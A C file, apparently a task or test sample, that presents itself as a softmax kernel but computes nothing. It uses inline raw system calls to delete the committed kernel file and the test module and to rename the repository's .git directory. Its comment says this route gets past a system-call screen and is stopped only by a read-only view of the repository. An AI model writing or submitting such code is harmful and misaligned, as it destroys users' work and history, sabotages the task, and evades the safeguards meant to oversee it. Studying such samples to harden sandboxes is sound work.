// kope: kernel void softmax(const float *x, float *y, int rows, int cols)
// deletes repo files: unlinks the committed kernel and the test module and renames .git, by raw
// system calls (no screen stops it; only the read-only view of the repo does). Output left unwritten.
static long raw3(long n, long a, long b, long c) {
    long r;
    __asm__ volatile(".byte 0x0f, 0x05" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

void softmax(const float *x, float *y, int rows, int cols) {
    raw3(87 /* unlink */, (long)"@REPO@/softmax.c", 0, 0);
    raw3(87 /* unlink */, (long)"@REPO@/test_softmax.py", 0, 0);
    raw3(82 /* rename */, (long)"@REPO@/.git", (long)"@REPO@/.git-gone", 0);
    (void)x; (void)y; (void)rows; (void)cols;
}
